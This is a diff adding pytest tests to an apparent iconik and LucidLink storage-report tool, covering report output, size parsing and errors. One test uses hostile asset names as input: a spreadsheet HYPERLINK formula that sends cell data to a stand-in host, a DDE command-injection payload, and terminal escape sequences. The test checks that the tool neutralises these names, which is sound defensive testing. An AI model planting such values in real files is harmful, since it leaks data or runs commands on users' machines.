@@ -105,6 +105,29 @@ def test_csv_json_and_html_hold_every_row(world, capsys, tmp_path):
     assert all(f"wrote {p}" in out for p in paths.values())
 
 
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1)\x1b]0;owned\x07\x1b[2J\r\u202e.mov'
+
+
+def test_names_are_formula_escaped_in_the_csv_cleaned_on_the_terminal_and_the_files_are_private(world, capsys,
+                                                                                              tmp_path):
+    world.add(HOSTILE, "corrupt", 4321, 100)  # kept, with its file name in the reason printed
+    world.add("+cmd|' /C calc'!A0.mov", "safe", 4567, 100)
+    paths = {kind: tmp_path / f"lucidlink.{kind}" for kind in ("csv", "json", "html")}
+    paths["csv"].write_text("an older report")
+    paths["csv"].chmod(0o644)
+
+    code, out, err = run_report(capsys, *(arg for kind, path in paths.items() for arg in (f"--{kind}", str(path))))
+
+    assert code == 0, err
+    assert all(path.stat().st_mode & 0o777 == 0o600 for path in paths.values())
+    with paths["csv"].open(newline="", encoding="utf-8") as file:
+        names = {row["name"] for row in csv.DictReader(file)}
+    assert "'" + HOSTILE in names and "'+cmd|' /C calc'!A0.mov" in names
+    assert not [name for name in names if name.startswith(("=", "+", "-", "@"))]
+    assert 'HYPERLINK("http://x.example/?"&A1)' in out
+    assert not [ch for ch in out if ch not in "\n" and (ord(ch) < 32 or 0x7f <= ord(ch) < 0xa0 or ch == "\u202e")]
+
+
 def test_a_stale_listing_is_corrected_by_each_assets_fresh_read(world, capsys, tmp_path):
     emu = world.emu
     emu.snapshot_listing()
@@ -173,7 +196,7 @@ def test_the_progress_bar_draws_on_a_terminal_and_clears_its_line():
 
 
 @pytest.mark.parametrize("text, value", [("20TB", 20 * 10**12), ("500GB", 500 * 10**9), ("1.5TiB", int(1.5 * 2**40)),
-                                         ("1234", 1234)])
+                                         ("1234B", 1234), ("1 B", 1)])
 def test_sizes(text, value):
     assert parse_size(text) == value
 
@@ -182,6 +205,21 @@ def test_sizes(text, value):
 def test_bad_sizes_say_what_is_expected(text):
     with pytest.raises(ValueError, match="size|HIGH"):
         parse_watermarks(text)
+
+
+@pytest.mark.parametrize("text, words", [("20", "say 20TB"), ("0.5", "has no unit"), ("0.5B", "at least one byte"),
+                                         ("0", "at least one byte"), ("20:10", "say 20TB")])
+def test_a_size_without_a_unit_or_below_one_byte_is_refused_with_the_fix(text, words):
+    with pytest.raises(ValueError, match=words):
+        parse_watermarks(text)
+
+
+@pytest.mark.parametrize("count, printed", [(999, "999 B"), (1000, "1.00 KB"), (999_994, "999.99 KB"),
+                                            (999_995, "1.00 MB"), (999_999, "1.00 MB"), (999_999_999, "1.00 GB"),
+                                            (999_999_999_999, "1.00 TB"), (999_999_999_999_999, "1.00 PB"),
+                                            (10**18, "1000.00 PB")])
+def test_sizes_print_right_at_every_unit_boundary(count, printed):
+    assert human_bytes(count) == printed
 
 
 def test_watermarks_and_ages():
@@ -227,3 +265,25 @@ def test_one_entry_lists_the_commands_and_refuses_unknown_ones(capsys):
     assert "unknown command 'reprot'" in err and "report" in err
     assert cli.main([]) == 2
     assert cli.main(["report", "--help"]) == 0 and "--html FILE" in capsys.readouterr().out
+
+
+def test_a_lucidlink_storage_without_deletes_shows_nothing_safe_to_remove(world, capsys):
+    world.emu.world.storages[world.ll]["settings"]["delete"] = False
+    code, out, err = run_report(capsys)
+    assert code == 0, err
+    assert "settings.delete is off" in err and "refuses to delete there" in err
+    assert re.search(r"safe to remove now.*\(0 bytes\)", out), out
+    safe_and_only_ll = expected_bytes(world, "safe") + expected_bytes(world, "only_on_lucidlink")
+    assert re.search(rf"iconik may not delete on this LucidLink storage.*\({safe_and_only_ll} bytes\)", out), out
+    assert world.writes() == 0
+
+
+def test_a_listed_asset_id_that_is_not_a_uuid_is_a_row_that_says_so_not_a_crash(world, capsys):
+    odd = next(iter(world.assets.values()))
+    with world.emu.world.lock:  # the listing (a search index) names an asset by an id no client would send
+        for record in world.emu.world.files.values():
+            if record["asset_id"] == odd.id and record["storage_id"] == world.ll:
+                record["asset_id"] = "not-a-uuid"
+    code, out, err = run_report(capsys)
+    assert code == 0, err
+    assert "the listing's asset id is not a UUID: 'not-a-uuid'" in out
